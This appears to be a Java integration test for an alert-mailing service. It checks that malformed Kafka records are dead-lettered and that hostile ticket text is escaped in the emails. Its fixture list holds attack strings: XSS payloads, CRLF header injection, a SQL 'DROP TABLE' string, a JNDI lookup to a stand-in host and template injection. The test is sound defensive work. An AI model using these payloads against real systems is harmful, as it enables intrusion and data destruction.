package dev.promesa.notifier.alert;

import static dev.promesa.notifier.Deliveries.PATIENCE;
import static dev.promesa.notifier.Deliveries.awaitMails;
import static dev.promesa.notifier.Deliveries.html;
import static dev.promesa.notifier.Deliveries.publish;
import static dev.promesa.notifier.Deliveries.publishRaw;
import static dev.promesa.notifier.Deliveries.subject;
import static dev.promesa.notifier.Deliveries.text;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import jakarta.inject.Inject;
import jakarta.mail.internet.MimeMessage;

import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.quarkus.test.junit.QuarkusTest;

import dev.promesa.contracts.Alert;
import dev.promesa.contracts.AlertKind;
import dev.promesa.contracts.Person;
import dev.promesa.contracts.Topics;
import dev.promesa.notifier.TestAlerts;
import dev.promesa.testsupport.KafkaBroker;
import dev.promesa.testsupport.TopicTail;

/**
 * Hostile records on followup.alerts.v1: garbage goes to followup.alerts.v1.dlq with a reason and the alert behind it
 * is still mailed; alerts whose ticket fields carry markup, CR/LF, template syntax and tricky unicode are mailed with
 * every such string escaped in HTML, one-line subjects, no injected header, and {@code {...}} left unevaluated. The
 * hostile texts are drawn with a seeded {@link Random} ({@code -Dhostile.seed}, default {@value #DEFAULT_SEED}).
 */
@QuarkusTest
@Timeout(180)
class HostileAlertsTest {
    static final long DEFAULT_SEED = 20261126L;

    static final List<String> HOSTILE = List.of("<script>alert('x')</script>", "<img src=x onerror=alert(1)>",
            "\"><b>bold</b>", "line one\r\nBcc: victim@example.com", "Subject: hi\r\n\r\nforged body",
            "'; DROP TABLE notification; --", "{ticketId}", "{#for x in items}{x}{/for}",
            "{#include layout/mail /}", "{inject:mailer}", "${jndi:ldap://evil.example/a}", "\u202Egnp.exe",
            "zero\u200Bwidth\u200C\u200D\uFEFF", "👩‍👩‍👧‍👦😀", "مرحبا بالعالم", "line\u2028sep\u2029para",
            "e\u0301\u0301\u0301", "&amp; &lt;b&gt;");
    /** Markup that only the input could have put in a mail: never present raw in the HTML part. */
    static final List<String> RAW_MARKUP = List.of("<script", "<img", "<b>");

    @Inject
    ObjectMapper mapper;

    @Inject
    AlertReader reader;

    @Test
    void garbageIsRefusedWithAReason() throws Exception {
        Alert valid = TestAlerts.alert(AlertKind.COMMITMENT_OVERDUE).build();
        String json = mapper.writeValueAsString(valid);
        List<String> garbage = List.of("null", "[]", "42", "\"an alert\"", "{}", json.substring(0, json.length() / 2),
                "[".repeat(10_000) + "]".repeat(10_000),
                json.replace("\"subject\":\"", "\"subject\":\"\\u0000"),
                json.replace("\"subject\":\"", "\"subject\":\"\\ud800"),
                json.replace("\"COMMITMENT_OVERDUE\"", "\"<script>\""),
                json.replace("\"alertId\":\"", "\"alertId\":\"" + "a".repeat(5_000)),
                json.replace("\"ticket\":{", "\"ticket\":[{").replace("\"team\":\"service-desk\"}",
                        "\"team\":\"service-desk\"}]"));
        for (String value : garbage) {
            assertThatThrownBy(() -> reader.read(value)).as(value.substring(0, Math.min(80, value.length())))
                    .isInstanceOf(UnreadableAlertException.class).message().isNotBlank();
        }
    }

    @Test
    void garbageIsDeadLetteredAndHostileAlertsAreMailedEscaped() throws Exception {
        long seed = Long.getLong("hostile.seed", DEFAULT_SEED);
        Random random = new Random(seed);
        String reproduce = " [seed " + seed + "; rerun with -Dhostile.seed=" + seed + "]";
        List<Alert> hostile = new ArrayList<>();
        for (AlertKind kind : List.of(AlertKind.COMMITMENT_OVERDUE, AlertKind.COMMITMENT_OVERDUE_USER,
                AlertKind.ESCALATED, AlertKind.SLA_BREACHED)) {
            String subject = pick(random) + " " + pick(random);
            Person requester = new Person("u-h", pick(random) + " Lucía", "lucia@example.com", "es", "Europe/Madrid");
            Person assignee = new Person("a-h", pick(random) + " Marta", "marta@example.com", "es", "Europe/Madrid");
            hostile.add(TestAlerts.alert(kind).subject(subject).promise(pick(random) + " " + pick(random))
                    .requester(requester).assignee(assignee).build());
        }
        try (TopicTail dlq = KafkaBroker.shared().tail(Topics.ALERTS_DLQ)) {
            List<String> poisonKeys = new ArrayList<>();
            for (Alert alert : hostile) {
                // garbage on the same key (same partition), right before each hostile alert
                String poison = "poison-" + alert.alertId();
                poisonKeys.add(alert.ticketId());
                String value = switch (random.nextInt(5)) {
                    case 0 -> "null";
                    case 1 -> "[".repeat(10_000) + "]".repeat(10_000);
                    case 2 -> "{\"alertId\":\"" + poison + "\",\"kind\":\"" + pick(random).replace("\"", "")
                            + "\",\"ticketId\":\"" + alert.ticketId() + "\"}";
                    case 3 -> mapper.writeValueAsString(alert).replace("\"subject\":\"", "\"subject\":\"\\u0000");
                    default -> pick(random);
                };
                publishRaw(alert.ticketId(), value, poison);
                publish(mapper, alert);
            }

            List<ConsumerRecord<String, String>> letters = await().atMost(PATIENCE).until(
                    () -> dlq.received().stream().filter(r -> poisonKeys.contains(r.key())).toList(),
                    received -> received.size() >= poisonKeys.size());
            assertThat(letters).as("only the poison records are dead-lettered" + reproduce)
                    .hasSize(poisonKeys.size());
            assertThat(letters).as("every poison record has a reason" + reproduce)
                    .allSatisfy(r -> assertThat(TopicTail.header(r, "dead-letter-reason")).isNotBlank());
        }
        for (Alert alert : hostile) {
            String to = alert.kind() == AlertKind.COMMITMENT_OVERDUE_USER
                    ? "lucia@example.com"
                    : alert.kind() == AlertKind.ESCALATED ? "lead@example.com" : "marta@example.com";
            List<MimeMessage> mails = awaitMails(to, alert.ticketId(), 1);
            String context = alert.kind() + " to " + to + ", subject '" + alert.ticket().subject() + "'" + reproduce;
            for (MimeMessage mail : mails) {
                assertThat(subject(mail)).as(context).doesNotContain("\r", "\n", "\u2028", "\u2029");
                assertThat(mail.getHeader("Bcc")).as(context + ": no injected header").isNull();
                assertThat(mail.getAllRecipients()).as(context).hasSize(1);
                String html = html(mail);
                for (String markup : RAW_MARKUP) {
                    assertThat(html).as(context + ": HTML escapes the input").doesNotContainIgnoringCase(markup);
                }
                String text = text(mail);
                for (String syntax : List.of("{ticketId}", "{#for x in items}{x}{/for}", "{inject:mailer}")) {
                    boolean agentMail = alert.kind() == AlertKind.COMMITMENT_OVERDUE
                            || alert.kind() == AlertKind.SLA_BREACHED; // these quote the ticket subject
                    if (agentMail && alert.ticket().subject().contains(syntax)) {
                        assertThat(text).as(context + ": template syntax in data is not evaluated").contains(syntax);
                    }
                }
            }
        }
    }

    private static String pick(Random random) {
        return HOSTILE.get(random.nextInt(HOSTILE.size()));
    }
}
